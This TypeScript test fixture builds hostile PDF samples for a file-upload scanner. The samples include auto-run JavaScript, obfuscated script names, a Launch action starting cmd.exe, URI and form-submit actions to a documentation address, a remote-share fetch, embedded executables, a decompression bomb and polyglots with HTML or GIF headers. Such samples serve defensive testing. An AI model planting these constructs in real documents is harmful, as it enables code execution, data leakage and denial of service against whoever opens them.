import { deflateSync } from 'node:zlib'
import { buildDocx } from './build-docx.ts'
import { buildPage, objectStream } from './build-pdf.ts'
import { refused, type HostileFile } from './hostile-file.ts'

function pdf(reason: Parameters<typeof refused>[0], title: string, content: HostileFile['content']) {
  return refused(reason, title, 'report.pdf', content)
}

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const packedScript = [[9, script]] as const

/** PDFs that run, start, fetch, send or hold something, or hide that they do. */
export const hostilePdfs: HostileFile[] = [
  pdf('activeContent', 'a script when it is opened', () => buildPage({ catalogue: `/OpenAction ${script}` })),
  pdf('activeContent', 'a script among its names', () =>
    buildPage({ catalogue: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` }),
  ),
  pdf('activeContent', 'a script when a page is shown', () => buildPage({ page: `/AA << /O ${script} >>` })),
  pdf('activeContent', 'a script whose name is spelt in numbers', () =>
    buildPage({ catalogue: '/OpenAction << /S /J#61v#61Script /JS (x) >>' }),
  ),
  pdf('activeContent', 'a script in a packed object', () =>
    buildPage({ catalogue: '/Names 9 0 R', more: [objectStream(packedScript)] }),
  ),
  pdf('activeContent', 'a script in an object packed under a name in numbers', () =>
    buildPage({ more: [objectStream(packedScript, { name: 'Obj#53tm' })] }),
  ),
  pdf('locked', 'a script packed in a way that nothing here unpacks', () =>
    buildPage({ more: [objectStream(packedScript, { filter: '[/ASCII85Decode /FlateDecode]' })] }),
  ),
  pdf('damaged', 'packed objects that cannot be unpacked', () =>
    buildPage({ more: [objectStream(packedScript, { packed: Buffer.from('no packing at all') })] }),
  ),
  pdf('tooMuchInside', 'packed objects that unpack to 100 MB', () =>
    buildPage({ more: [objectStream([], { packed: deflateSync(Buffer.alloc(100 * 1024 * 1024)) })] }),
  ),
  pdf('activeContent', 'a program that it starts', () =>
    buildPage({ catalogue: '/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>' }),
  ),
  pdf('activeContent', 'an address that it opens by itself', () =>
    buildPage({ catalogue: '/OpenAction << /S /URI /URI (http://203.0.113.9/) >>' }),
  ),
  pdf('activeContent', 'an address that another object opens', () =>
    buildPage({ catalogue: '/OpenAction 4 0 R', more: ['<< /S /URI /URI (http://203.0.113.9/) >>'] }),
  ),
  pdf('activeContent', 'an address that a packed object opens', () =>
    buildPage({
      catalogue: '/OpenAction 9 0 R',
      more: [
        objectStream([
          [8, '<< >>'],
          [9, '<< /S /URI /URI (http://203.0.113.9/) >>'],
        ]),
      ],
    }),
  ),
  pdf('activeContent', 'an address that is opened after a page was shown', () =>
    buildPage({
      catalogue: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://203.0.113.9/) >> >>',
    }),
  ),
  pdf('activeContent', 'an action that stands nowhere', () => buildPage({ catalogue: '/OpenAction 77 0 R' })),
  pdf('activeContent', 'thousands of actions', () =>
    buildPage({ more: Array.from({ length: 5000 }, () => '<< /OpenAction [3 0 R /Fit] >>') }),
  ),
  pdf('activeContent', 'another document that it opens from a share', () =>
    buildPage({ page: String.raw`/AA << /O << /S /GoToR /F (\\\\203.0.113.9\\x) /D [0 /Fit] >> >>` }),
  ),
  pdf('activeContent', 'an attached file', () =>
    buildPage({
      catalogue: '/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>',
      more: ['<< /Type /Filespec /F (setup.exe) >>'],
    }),
  ),
  pdf('activeContent', 'an attached file on a page', () =>
    buildPage({ more: ['<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream'] }),
  ),
  pdf('activeContent', 'answers that it sends somewhere', () =>
    buildPage({ page: '/A << /S /SubmitForm /F (http://203.0.113.9/) >>' }),
  ),
  pdf('activeContent', 'a form of the kind that runs scripts', () =>
    buildPage({ catalogue: '/AcroForm << /XFA [(template) 4 0 R] >>' }),
  ),
  pdf('activeContent', 'a form of that kind behind a remark', () =>
    buildPage({ catalogue: '/AcroForm << /XFA %\n4 0 R >>' }),
  ),
  pdf('activeContent', 'a film', () => buildPage({ page: '/Annots [<< /Subtype /RichMedia >>]' })),
  pdf('locked', 'a password', () =>
    buildPage({ trailer: '/Encrypt 4 0 R', more: ['<< /Filter /Standard /V 2 >>'] }),
  ),
  pdf('notWhatItSays', 'a zip behind it', () => Buffer.concat([buildPage(), buildDocx()])),
  pdf('wrongKind', 'a page of the web before it', () =>
    Buffer.concat([Buffer.from('<html><script>alert(1)</script>'), buildPage()]),
  ),
  pdf('wrongKind', 'a picture of the kind GIF before it', () =>
    Buffer.concat([Buffer.from('GIF89a/*\u0001\u0000', 'latin1'), buildPage()]),
  ),
  pdf('notWhatItSays', 'its start and nothing of one', () => Buffer.from('%PDF-\n<script>alert(1)</script>')),
]
